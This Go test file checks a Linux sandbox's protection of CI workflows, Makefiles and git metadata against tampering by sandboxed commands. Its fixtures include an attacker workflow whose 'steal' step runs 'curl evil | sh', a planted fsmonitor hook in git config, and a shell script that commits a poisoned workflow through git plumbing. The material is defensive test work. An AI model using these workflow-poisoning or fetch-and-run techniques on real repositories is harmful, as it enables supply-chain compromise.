//go:build linux

package confine

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// --- The sweep and protected paths ---------------------------------------

// TestSweepNeverMovesProtected: a command that makes the directory of a
// protected file look like a repository (HEAD, objects, refs beside it)
// has the repository set aside by renaming what is not protected; the
// protected file itself is never renamed, nor anything holding a protected
// path, nor anything inside a protected directory; each is reported.
func TestSweepNeverMovesProtected(t *testing.T) {
	f := sweepFixture(t)
	w := f.work
	mustWrite(t, filepath.Join(w, "app", "config"), "user config\n")
	mustWrite(t, filepath.Join(w, "r2", "HEAD"), "the user's file named HEAD\n")
	mustMkdir(t, filepath.Join(w, "lib", ".git", "info")) // as Inspect makes an absent protected path
	gitRepo(t, f.home, filepath.Join(w, "vend", "lib"))
	sw := newSweeper()
	sw.protect = []string{filepath.Join(w, "app", "config"), filepath.Join(w, "r2", "HEAD"),
		filepath.Join(w, "lib", ".git", "info"), filepath.Join(w, "vend")}
	tk, err := sw.begin([]string{w}, w)
	if err != nil {
		t.Fatal(err)
	}
	// What the command plants around the protected paths.
	for _, d := range []string{"app", "r2", "lib/.git"} {
		if d != "r2" {
			mustWrite(t, filepath.Join(w, d, "HEAD"), "ref: refs/heads/main\n")
		}
		mustMkdir(t, filepath.Join(w, d, "objects"))
		mustMkdir(t, filepath.Join(w, d, "refs"))
	}
	mustWrite(t, filepath.Join(w, "lib", ".git", "config"), "[core]\n\tfsmonitor = touch /nonexistent/z\n")
	// The user changes the config of a repository inside a protected
	// directory (no sandbox that protects it can).
	appendFile(t, filepath.Join(w, "vend", "lib", ".git", "config"), "[user]\n\tname = me\n")

	found := mustEnd(t, tk)
	joined := strings.Join(found, "\n")
	if b, err := os.ReadFile(filepath.Join(w, "app", "config")); err != nil || string(b) != "user config\n" {
		t.Errorf("the protected app/config was moved or changed: %q, %v\n%s", b, err, joined)
	}
	if b, err := os.ReadFile(filepath.Join(w, "r2", "HEAD")); err != nil || !strings.HasPrefix(string(b), "the user's") {
		t.Errorf("the protected r2/HEAD was moved: %v\n%s", err, joined)
	}
	if _, err := os.Stat(filepath.Join(w, "lib", ".git", "info")); err != nil {
		t.Errorf("the .git holding a protected path was moved: %v\n%s", err, joined)
	}
	if _, err := os.Stat(filepath.Join(w, "vend", "lib", ".git", "HEAD")); err != nil {
		t.Errorf("a repository inside a protected directory was set aside: %v\n%s", err, joined)
	}
	for _, p := range []string{"app/config", "r2/HEAD", "lib/.git/info", "vend"} {
		matches, _ := filepath.Glob(filepath.Join(w, p) + quarantineSuffix + "*")
		if len(matches) > 0 {
			t.Errorf("the sweep renamed the protected %s: %v", p, matches)
		}
	}
	for _, d := range []string{"app", "r2", "lib/.git"} {
		if isGitDirShape(filepath.Join(w, d)) {
			t.Errorf("%s is still a repository after the sweep:\n%s", d, joined)
		}
		if !strings.Contains(joined, d+":") {
			t.Errorf("%s not reported:\n%s", d, joined)
		}
	}
	if !strings.Contains(joined, "vend/lib/.git:") || !strings.Contains(joined, "left in place") {
		t.Errorf("the changed repository inside a protected directory is not reported:\n%s", joined)
	}
	if _, err := os.Stat(filepath.Join(w, "lib", ".git", "config"+quarantineSuffix)); err != nil {
		t.Errorf("the planted config beside the protected path was not set aside: %v\n%s", err, joined)
	}
	// Nothing left to do, and what was reported is not reported again.
	tk, err = sw.begin([]string{w}, w)
	if err != nil {
		t.Fatalf("the next spawn is refused: %v", err)
	}
	if found := mustEnd(t, tk); len(found) != 0 {
		t.Errorf("a second sweep: %v", found)
	}
}

// isGitDirShape: git would take dir for a repository (HEAD, and commondir
// or objects and refs).
func isGitDirShape(dir string) bool {
	has := func(n string) bool { _, err := os.Lstat(filepath.Join(dir, n)); return err == nil }
	return has("HEAD") && (has("commondir") || (has("objects") && has("refs")))
}

// --- The protected-in-git check ------------------------------------------

const guardWF = ".github/workflows/ci.yml"

type guardFixture struct {
	fixture
	p    *Policy
	evil string // a file holding the attacker's workflow
	good string // the workflow's blob
	main string // main's commit before the spawn
}

// newGuardFixture: a repository whose .github/workflows is protected, with
// a branch, a remote-tracking ref and a tag; the fixture is readable by the
// test user (it lives under /var/tmp).
func newGuardFixture(t *testing.T) guardFixture {
	t.Helper()
	f := guardFixture{fixture: newFixtureUnder(t, "/var/tmp")}
	w := f.work
	gitRepo(t, f.home, w)
	mustWrite(t, filepath.Join(w, guardWF), "on: push\njobs: {}\n")
	mustWrite(t, filepath.Join(w, "src.txt"), "one\n")
	mustWrite(t, filepath.Join(w, "Makefile"), "all:\n")
	git(t, f.home, w, "add", ".")
	git(t, f.home, w, "commit", "-qm", "workflow")
	git(t, f.home, w, "branch", "side")
	git(t, f.home, w, "update-ref", "refs/remotes/origin/main", "HEAD")
	git(t, f.home, w, "tag", "v1")
	f.main = git(t, f.home, w, "rev-parse", "HEAD")
	f.good = git(t, f.home, w, "rev-parse", "HEAD:"+guardWF)
	f.evil = filepath.Join(f.root, "evil.yml")
	mustWrite(t, f.evil, "on: push\njobs: {steal: {runs-on: x, steps: [{run: 'curl evil | sh'}]}}\n")
	s := f.spec(ModeWorkspaceWrite, NetworkOff)
	s.Protected = []string{filepath.Join(w, ".github", "workflows"), filepath.Join(w, "Makefile")}
	p, err := Resolve(s, usableHost)
	if err != nil {
		t.Fatal(err)
	}
	f.p = p
	f.shareWithTestUser(t)
	return f
}

// shareWithTestUser makes the tree readable by the unprivileged test user
// (the unit packages run again as that user), file modes aside.
func (f guardFixture) shareWithTestUser(t *testing.T) {
	t.Helper()
	_ = filepath.Walk(f.root, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.IsDir() {
			_ = os.Chmod(p, fi.Mode().Perm()|0o755)
		} else if err == nil && fi.Mode().IsRegular() {
			_ = os.Chmod(p, fi.Mode().Perm()|0o644)
		}
		return nil
	})
}

func (f guardFixture) git(t *testing.T, args ...string) string {
	t.Helper()
	return git(t, f.home, f.work, args...)
}

// evilCommit puts the attacker's workflow into the index and commits it on
// the current branch, as a sandboxed command can without writing the file.
func (f guardFixture) evilCommit(t *testing.T) string {
	t.Helper()
	blob := f.git(t, "hash-object", "-w", f.evil)
	f.git(t, "update-index", "--cacheinfo", "100644,"+blob+","+guardWF)
	f.git(t, "commit", "-qm", "innocent")
	return f.git(t, "rev-parse", "HEAD")
}

// checkClean: every ref, HEAD and the index hold the user's workflow again,
// `git status` shows it unmodified, and the discard a user would reach for
// writes the user's version.
func (f guardFixture) checkClean(t *testing.T, evil string) {
	t.Helper()
	for _, r := range []string{"HEAD", "refs/heads/main", "refs/heads/side", "refs/remotes/origin/main", "refs/tags/v1"} {
		if got := f.git(t, "rev-parse", r); got != f.main {
			t.Errorf("%s is %s, want %s", r, got, f.main)
		}
	}
	if got := f.git(t, "ls-files", "-s", "--", guardWF); !strings.Contains(got, f.good) {
		t.Errorf("the index holds %q, want the blob %s", got, f.good)
	}
	if got := f.git(t, "ls-files", "-s", "--", "Makefile"); !strings.HasPrefix(got, "100644 ") {
		t.Errorf("the index holds %q for Makefile", got)
	}
	if got := f.git(t, "status", "--porcelain", "--", ".github", "Makefile"); got != "" {
		t.Errorf("git status shows changes: %q", got)
	}
	f.git(t, "checkout", "--", guardWF)
	if b, _ := os.ReadFile(filepath.Join(f.work, guardWF)); strings.Contains(string(b), "evil") {
		t.Errorf("git checkout -- wrote the attacker's workflow")
	}
	if evil != "" {
		kept := f.git(t, "for-each-ref", "--format=%(objectname)", quarantineRefPrefix)
		if !strings.Contains(kept, evil) {
			t.Errorf("the offending commit %s is not kept under %s: %q", evil, quarantineRefPrefix, kept)
		}
	}
	if out := f.git(t, "for-each-ref", "--format=%(refname)", "refs/heads/"); strings.Contains(out, "evil") {
		t.Errorf("a branch the command created survives: %s", out)
	}
}

func newGuard() *gitGuard { return &gitGuard{repos: map[string]*guardRepo{}} }

func reported(changes []GitProtected) string {
	var b strings.Builder
	for _, c := range changes {
		b.WriteString(c.Path + ": " + c.What + "\n")
	}
	return b.String()
}

// TestGitProtectSetsBack: what a command does through git to a protected
// path (a commit on the current branch from a staged blob, a new branch, a
// moved remote-tracking ref and tag, a packed new branch, a detached HEAD,
// ORIG_HEAD and FETCH_HEAD) is set back after the spawn, the offending
// commit kept reachable; a change to other files is kept.
func TestGitProtectSetsBack(t *testing.T) {
	for _, c := range []struct {
		name   string
		attack func(t *testing.T, f guardFixture) (evil string)
	}{
		{"commit on the current branch", func(t *testing.T, f guardFixture) string { return f.evilCommit(t) }},
		{"update-ref of other refs", func(t *testing.T, f guardFixture) string {
			evil := f.evilCommit(t)
			f.git(t, "reset", "-q", "--soft", f.main) // main back, the index still evil
			for _, r := range []string{"refs/heads/side", "refs/remotes/origin/main", "refs/tags/v1", "refs/heads/evil", "refs/replace/" + f.main} {
				f.git(t, "update-ref", r, evil)
			}
			return evil
		}},
		{"packed new branch", func(t *testing.T, f guardFixture) string {
			evil := f.evilCommit(t)
			f.git(t, "update-ref", "refs/heads/evil2", evil)
			f.git(t, "pack-refs", "--all")
			return evil
		}},
		{"detached HEAD and pseudo-refs", func(t *testing.T, f guardFixture) string {
			evil := f.evilCommit(t)
			f.git(t, "update-ref", "refs/heads/main", f.main)
			f.git(t, "update-ref", "--no-deref", "HEAD", evil)
			mustWrite(t, filepath.Join(f.work, ".git", "ORIG_HEAD"), evil+"\n")
			mustWrite(t, filepath.Join(f.work, ".git", "FETCH_HEAD"), evil+"\t\tbranch 'main' of x\n")
			return evil
		}},
		{"top-level file", func(t *testing.T, f guardFixture) string {
			blob := f.git(t, "hash-object", "-w", f.evil)
			f.git(t, "update-index", "--cacheinfo", "100755,"+blob+",Makefile")
			f.git(t, "commit", "-qm", "build")
			return f.git(t, "rev-parse", "HEAD")
		}},
		{"index only", func(t *testing.T, f guardFixture) string {
			blob := f.git(t, "hash-object", "-w", f.evil)
			f.git(t, "update-index", "--cacheinfo", "100644,"+blob+","+guardWF)
			f.git(t, "update-index", "--add", "--cacheinfo", "100755,"+blob+",.github/workflows/new.yml")
			return ""
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := newGuardFixture(t)
			g := newGuard()
			tk, err := g.begin(f.p)
			if err != nil {
				t.Fatal(err)
			}
			if len(tk.shares) != 1 {
				t.Fatal("no record taken for a repository with a protected path")
			}
			evil := c.attack(t, f)
			// A change the command may make: kept.
			mustWrite(t, filepath.Join(f.work, "src.txt"), "two\n")
			changes := tk.end()
			got := reported(changes)
			want := ".github/workflows"
			if c.name == "top-level file" {
				want = "Makefile"
			}
			if len(changes) == 0 || !strings.Contains(got, want) {
				t.Fatalf("nothing reported:\n%s", got)
			}
			if strings.Contains(got, f.root) || strings.Contains(got, "failed") {
				t.Errorf("report: %s", got)
			}
			if strings.Contains(c.name, "detached") {
				for _, n := range []string{"ORIG_HEAD", "FETCH_HEAD"} {
					if _, err := os.Stat(filepath.Join(f.work, ".git", n)); err == nil {
						t.Errorf("%s the command wrote survives", n)
					}
				}
			}
			if out := f.git(t, "for-each-ref", "--format=%(refname)", "refs/replace/"); out != "" {
				t.Errorf("a replace ref survives: %s", out)
			}
			f.checkClean(t, evil)
			if b, _ := os.ReadFile(filepath.Join(f.work, "src.txt")); string(b) != "two\n" {
				t.Errorf("an unprotected change was undone")
			}
			// Nothing more to do.
			tk, err = g.begin(f.p)
			if err != nil {
				t.Fatal(err)
			}
			if changes := tk.end(); len(changes) != 0 {
				t.Errorf("a second check: %s", reported(changes))
			}
		})
	}
}

// TestGitProtectKeepsLegitimate: commits, branches and index changes that
// leave the protected paths as they were are not touched.
func TestGitProtectKeepsLegitimate(t *testing.T) {
	f := newGuardFixture(t)
	g := newGuard()
	tk, err := g.begin(f.p)
	if err != nil {
		t.Fatal(err)
	}
	mustWrite(t, filepath.Join(f.work, "src.txt"), "two\n")
	f.git(t, "commit", "-qam", "src")
	f.git(t, "checkout", "-q", "-b", "feature")
	// New refs naming unrelated history, an older commit without the
	// workflow, or a commit a ref already named.
	f.git(t, "notes", "add", "-m", "a note")
	f.git(t, "tag", "before-workflow", "HEAD~2")
	f.git(t, "branch", "copy-of-side", "side")
	f.git(t, "update-ref", "refs/remotes/other/main", "HEAD~2")
	head := f.git(t, "rev-parse", "HEAD")
	if changes := tk.end(); len(changes) != 0 {
		t.Errorf("a legitimate commit was judged: %s", reported(changes))
	}
	if got := f.git(t, "rev-parse", "refs/heads/main"); got != head {
		t.Errorf("main moved back")
	}
	if got := f.git(t, "symbolic-ref", "HEAD"); got != "refs/heads/feature" {
		t.Errorf("HEAD: %s", got)
	}
}

// TestGitProtectBusyPeriod: while a spawn runs, another's start takes no
// new record, so the first one's change is judged at whichever end comes
// next; once none runs, what the user committed on the host is the new
// record and is kept.
func TestGitProtectBusyPeriod(t *testing.T) {
	f := newGuardFixture(t)
	g := newGuard()
	a, err := g.begin(f.p)
	if err != nil {
		t.Fatal(err)
	}
	evil := f.evilCommit(t)
	b, err := g.begin(f.p)
	if err != nil {
		t.Fatal(err)
	}
	if changes := b.end(); len(changes) == 0 {
		t.Errorf("the later spawn's end did not set back the earlier one's change")
	}
	if changes := a.end(); len(changes) != 0 {
		t.Errorf("%s", reported(changes))
	}
	f.checkClean(t, evil)
	// Idle: the user changes the workflow on the host and commits it.
	mustWrite(t, filepath.Join(f.work, guardWF), "on: pull_request\n")
	f.git(t, "commit", "-qam", "mine")
	mine := f.git(t, "rev-parse", "HEAD")
	c, err := g.begin(f.p)
	if err != nil {
		t.Fatal(err)
	}
	if changes := c.end(); len(changes) != 0 || f.git(t, "rev-parse", "HEAD") != mine {
		t.Errorf("the user's own commit was set back: %s", reported(changes))
	}
}

// TestGitProtectNoPathThroughLinks: a refs directory the command swapped
// for a symlink is never written through: the check fails, says so, and
// refuses later spawns until the repository is sound again.
func TestGitProtectNoPathThroughLinks(t *testing.T) {
	f := newGuardFixture(t)
	g := newGuard()
	tk, err := g.begin(f.p)
	if err != nil {
		t.Fatal(err)
	}
	f.evilCommit(t)
	heads := filepath.Join(f.work, ".git", "refs", "heads")
	elsewhere := filepath.Join(f.root, "elsewhere")
	if err := os.Rename(heads, elsewhere); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(elsewhere, heads); err != nil {
		t.Fatal(err)
	}
	before, _ := os.ReadFile(filepath.Join(elsewhere, "main"))
	changes := tk.end()
	got := reported(changes)
	if !strings.Contains(got, "failed") || strings.Contains(got, f.root) {
		t.Errorf("end: %s", got)
	}
	if after, _ := os.ReadFile(filepath.Join(elsewhere, "main")); !bytes.Equal(before, after) {
		t.Errorf("the server wrote through the planted symlink")
	}
	ents, _ := os.ReadDir(elsewhere)
	for _, e := range ents {
		if e.Name() != "main" && e.Name() != "side" && e.Name() != "evil" {
			t.Errorf("the server created %s through the planted symlink", e.Name())
		}
	}
	if _, err := g.begin(f.p); err == nil || !strings.Contains(err.Error(), "protected paths in git") || strings.Contains(err.Error(), f.root) {
		t.Errorf("next spawn: %v", err)
	}
	// The user puts the directory back: the check now finishes.
	os.Remove(heads)
	if err := os.Rename(elsewhere, heads); err != nil {
		t.Fatal(err)
	}
	tk, err = g.begin(f.p)
	if err != nil {
		t.Fatalf("after repair: %v", err)
	}
	changes = append(tk.pending, tk.end()...)
	if !strings.Contains(reported(changes), "refs/heads/main") {
		t.Errorf("after repair, main was not set back: %s", reported(changes))
	}
	f.checkClean(t, "")
}

// TestGitProtectSandboxed: the attack run by a real sandboxed command
// through the real launcher: the direct write is refused, the git route is
// set back after the command, and the result says so.
func TestGitProtectSandboxed(t *testing.T) {
	h := Probe(ProbeFull, os.Environ())
	if h.Unusable() != "" {
		t.Skipf("no sandbox here: %s", h.Unusable())
	}
	f := newGuardFixture(t)
	s := f.spec(ModeWorkspaceWrite, NetworkOff)
	s.Protected = []string{filepath.Join(f.work, ".github", "workflows")}
	p, err := Resolve(s, h)
	if err != nil {
		t.Fatal(err)
	}
	l, err := NewLauncher(p, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	script := `cd ` + f.work + `
export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
G="git -c user.name=x -c user.email=x@x -c safe.directory=*"
echo evil > ` + guardWF + ` 2>/dev/null && echo DIRECT-WRITE
b=$($G hash-object -w ` + f.evil + `)
$G update-index --cacheinfo 100644,$b,` + guardWF + ` && $G commit -qm innocent && echo COMMITTED
$G update-ref refs/heads/side HEAD && $G update-ref refs/heads/evil HEAD && echo MOVED
`
	var out bytes.Buffer
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	res, err := l.Run(ctx, Command{Args: []string{"/bin/sh", "-c", script}, Stdout: &out, Stderr: &out, Timeout: 30 * time.Second})
	if err != nil {
		t.Fatalf("run: %v\n%s", err, out.String())
	}
	if strings.Contains(out.String(), "DIRECT-WRITE") || !strings.Contains(out.String(), "COMMITTED") || !strings.Contains(out.String(), "MOVED") {
		t.Fatalf("the attack did not run as planned:\n%s", out.String())
	}
	got := reported(res.GitProtected)
	t.Logf("result:\n%s", got)
	if len(res.GitProtected) < 3 || !strings.Contains(got, "refs/heads/main") || !strings.Contains(got, "refs/heads/evil") || strings.Contains(got, f.root) {
		t.Errorf("result: %s", got)
	}
	evil := strings.Fields(f.git(t, "for-each-ref", "--format=%(objectname)", quarantineRefPrefix) + " none")[0]
	f.checkClean(t, evil)
}

// TestGitProtectLinkedWorktree: a worktree linked to a repository elsewhere
// (its index and HEAD in the common dir's worktrees/, its branches in the
// common dir): what a command does there through git is set back too,
// per-worktree refs included.
func TestGitProtectLinkedWorktree(t *testing.T) {
	f := guardFixture{fixture: newFixtureUnder(t, "/var/tmp")}
	repo := filepath.Join(f.root, "repo")
	gitRepo(t, f.home, repo)
	mustWrite(t, filepath.Join(repo, guardWF), "on: push\n")
	git(t, f.home, repo, "add", ".")
	git(t, f.home, repo, "commit", "-qm", "workflow")
	if err := os.Remove(f.work); err != nil {
		t.Fatal(err)
	}
	git(t, f.home, repo, "worktree", "add", "-q", "-b", "wt", f.work)
	f.main = f.git(t, "rev-parse", "HEAD")
	f.good = f.git(t, "rev-parse", "HEAD:"+guardWF)
	f.evil = filepath.Join(f.root, "evil.yml")
	mustWrite(t, f.evil, "on: push\njobs: {steal: {}}\n")
	s := f.spec(ModeWorkspaceWrite, NetworkOff)
	s.Protected = []string{filepath.Join(f.work, ".github", "workflows")}
	p, err := Resolve(s, usableHost)
	if err != nil {
		t.Fatal(err)
	}
	f.shareWithTestUser(t)
	g := newGuard()
	tk, err := g.begin(p)
	if err != nil {
		t.Fatal(err)
	}
	if len(tk.shares) != 1 || tk.shares[0].rec.common == tk.shares[0].rec.gitDir {
		t.Fatalf("the linked worktree's git dir was not told from its common dir: %+v", tk.shares)
	}
	evil := f.evilCommit(t)
	f.git(t, "update-ref", "refs/bisect/bad", evil)
	git(t, f.home, repo, "update-ref", "refs/heads/main", evil)
	changes := tk.end()
	got := reported(changes)
	for _, want := range []string{"refs/heads/wt", "refs/heads/main", "refs/bisect/bad", "index"} {
		if !strings.Contains(got, want) {
			t.Errorf("%s not set back:\n%s", want, got)
		}
	}
	for _, r := range []string{"HEAD", "refs/heads/wt", "refs/heads/main"} {
		if got := f.git(t, "rev-parse", r); got != f.main {
			t.Errorf("%s is %s, want %s", r, got, f.main)
		}
	}
	if out := f.git(t, "for-each-ref", "--format=%(refname)", "refs/bisect/"); out != "" {
		t.Errorf("a per-worktree ref survives: %s", out)
	}
	if got := f.git(t, "ls-files", "-s", "--", guardWF); !strings.Contains(got, f.good) {
		t.Errorf("the index holds %q", got)
	}
	if kept := git(t, f.home, repo, "for-each-ref", "--format=%(objectname)", quarantineRefPrefix); !strings.Contains(kept, evil) {
		t.Errorf("the commit is not kept: %q", kept)
	}
}

// BenchmarkGitProtect: what a spawn of a policy with protected paths in
// its repository pays in the server: a record when none runs and a check
// at its end, when the command changed nothing in git, and when it made a
// commit that leaves the protected paths alone.
func BenchmarkGitProtect(b *testing.B) {
	for _, c := range []string{"unchanged", "commit"} {
		b.Run(c, func(b *testing.B) {
			root, _ := filepath.EvalSymlinks(b.TempDir())
			w := filepath.Join(root, "work")
			run := func(args ...string) {
				cmd := exec.Command(gitBin, append([]string{"-c", "user.name=b", "-c", "user.email=b@b", "-c", "init.defaultBranch=main"}, args...)...)
				cmd.Dir, cmd.Env = w, []string{"HOME=" + root, "PATH=/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null"}
				if out, err := cmd.CombinedOutput(); err != nil {
					b.Fatalf("git %v: %v\n%s", args, err, out)
				}
			}
			if err := os.MkdirAll(filepath.Join(w, ".github", "workflows"), 0o755); err != nil {
				b.Fatal(err)
			}
			os.WriteFile(filepath.Join(w, guardWF), []byte("on: push\n"), 0o644)
			for i := 0; i < 200; i++ {
				os.WriteFile(filepath.Join(w, fmt.Sprintf("f%03d", i)), []byte("x\n"), 0o644)
			}
			run("init", "-q")
			run("add", ".")
			run("commit", "-qm", "x")
			p, err := Resolve(Spec{Mode: ModeWorkspaceWrite, ModeExplicit: true, Network: NetworkOff, Workdir: w,
				Env: []string{"HOME=" + root, "PATH=/usr/bin:/bin"}, Protected: []string{filepath.Join(w, ".github", "workflows")}}, usableHost)
			if err != nil {
				b.Fatal(err)
			}
			g := newGuard()
			b.ResetTimer()
			for i := 0; b.Loop(); i++ {
				tk, err := g.begin(p)
				if err != nil {
					b.Fatal(err)
				}
				if c == "commit" {
					b.StopTimer()
					run("commit", "-q", "--allow-empty", "-m", "e")
					b.StartTimer()
				}
				if ch := tk.end(); len(ch) != 0 {
					b.Fatal(reported(ch))
				}
			}
		})
	}
}

// TestGitProtectNested: a protected path inside a repository nested in the
// worktree (its own git dir, which sandboxes can write) is checked in that
// repository.
func TestGitProtectNested(t *testing.T) {
	f := newGuardFixture(t)
	lib := filepath.Join(f.work, "vendor", "lib")
	gitRepo(t, f.home, lib)
	mustWrite(t, filepath.Join(lib, "release.sh"), "echo release\n")
	git(t, f.home, lib, "add", ".")
	git(t, f.home, lib, "commit", "-qm", "release")
	before := git(t, f.home, lib, "rev-parse", "HEAD")
	s := f.spec(ModeWorkspaceWrite, NetworkOff)
	s.Protected = []string{filepath.Join(lib, "release.sh")}
	p, err := Resolve(s, usableHost)
	if err != nil {
		t.Fatal(err)
	}
	f.shareWithTestUser(t)
	g := newGuard()
	tk, err := g.begin(p)
	if err != nil {
		t.Fatal(err)
	}
	blob := git(t, f.home, lib, "hash-object", "-w", f.evil)
	git(t, f.home, lib, "update-index", "--cacheinfo", "100755,"+blob+",release.sh")
	git(t, f.home, lib, "commit", "-qm", "x")
	got := reported(tk.end())
	if !strings.Contains(got, "vendor/lib/release.sh: refs/heads/main was moved") {
		t.Errorf("the nested repository was not checked:\n%s", got)
	}
	if now := git(t, f.home, lib, "rev-parse", "HEAD"); now != before {
		t.Errorf("the nested main is %s, want %s", now, before)
	}
}

// TestGitProtectHangBounded: a FIFO a command leaves for a ref makes the
// server's git hang; the check gives up within guardTimeout, fails closed,
// and holds up no spawn writing another repository meanwhile.
func TestGitProtectHangBounded(t *testing.T) {
	defer func(d time.Duration) { guardTimeout = d }(guardTimeout)
	guardTimeout = 10 * time.Second
	a, b := newGuardFixture(t), newGuardFixture(t)
	g := newGuard()
	ta, err := g.begin(a.p)
	if err != nil {
		t.Fatal(err)
	}
	if err := unix.Mkfifo(filepath.Join(a.work, ".git", "refs", "heads", "hang"), 0o644); err != nil {
		t.Fatal(err)
	}
	done := make(chan []GitProtected, 1)
	go func() { done <- ta.end() }()
	tb, err := g.begin(b.p)
	if err != nil {
		t.Fatal(err)
	}
	b.evilCommit(t)
	if got := reported(tb.end()); !strings.Contains(got, "refs/heads/main") {
		t.Errorf("the other repository's check: %s", got)
	}
	select {
	case <-done:
		t.Errorf("the other repository's spawn waited for the hung check")
	default:
	}
	select {
	case ch := <-done:
		if got := reported(ch); !strings.Contains(got, "failed") || !strings.Contains(got, "longer than") {
			t.Errorf("the hung check: %s", got)
		}
	case <-time.After(guardTimeout + time.Minute):
		t.Fatal("the hung check never gave up")
	}
	os.Remove(filepath.Join(a.work, ".git", "refs", "heads", "hang"))
	if tk, err := g.begin(a.p); err != nil {
		t.Errorf("after the FIFO is gone: %v", err)
	} else {
		tk.end()
	}
}
